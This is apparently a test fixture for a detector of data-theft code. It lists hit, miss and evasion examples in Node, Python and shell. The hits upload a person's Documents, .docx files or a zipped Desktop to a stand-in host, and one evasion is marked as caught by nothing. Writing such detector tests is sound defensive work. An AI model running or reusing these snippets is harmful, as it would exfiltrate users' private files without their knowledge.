import type { Examples } from "@doorward/core";

const manifest =
  '{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }\n';

/** Uploads of a person's files, and of a project's. */
export const examples: Examples = {
  hits: [
    {
      name: "a folder of documents, uploaded one by one",
      files: {
        "package.json": manifest,
        "server.js": `const fs = require("fs");
const path = require("path");
const folder = path.join(require("os").homedir(), "Documents");
for (const name of fs.readdirSync(folder))
  fetch("https://files.example/", { method: "POST", body: fs.readFileSync(path.join(folder, name)) });
`,
      },
    },
    {
      name: "everything with an ending, in Python",
      files: {
        "main.py": `import glob, os, requests
for name in glob.glob(os.path.expanduser("~") + "/**/*.docx", recursive=True):
    requests.post("https://files.example/", files={"f": open(name, "rb")})
`,
      },
    },
    {
      name: "an archive of the desktop",
      files: {
        "setup.sh": `zip -r /tmp/d.zip ~/Desktop
curl -T /tmp/d.zip https://files.example/
`,
      },
    },
  ],
  misses: [
    {
      name: "a deployment",
      why: "What is sent was built in the project.",
      files: {
        "package.json": manifest,
        "server.js": `const fs = require("fs");
for (const name of fs.readdirSync("./dist"))
  fetch("https://host.example/" + name, { method: "PUT", body: fs.readFileSync("./dist/" + name) });
`,
      },
    },
    {
      name: "a client that sends its own token",
      why: "It reads a file of its own in the home.",
      files: {
        "package.json": manifest,
        "server.js": `const fs = require("fs");
const token = fs.readFileSync(require("os").homedir() + "/.shop/token", "utf8");
fetch("https://api.example/", { headers: { Authorization: token } });
`,
      },
    },
    {
      name: "a count of documents",
      why: "A number is sent to nobody; the files are only counted.",
      files: {
        "package.json": manifest,
        "server.js": `const fs = require("fs");
console.log(fs.readdirSync(require("os").homedir() + "/Documents").length);
`,
      },
    },
  ],
  evasions: [
    {
      name: "files that a command line names",
      caughtBy: "nothing",
      files: {
        "package.json": manifest,
        "server.js": `const fs = require("fs");
fetch("https://files.example/", { method: "POST", body: fs.readFileSync(process.argv[2]) });
`,
      },
    },
  ],
};
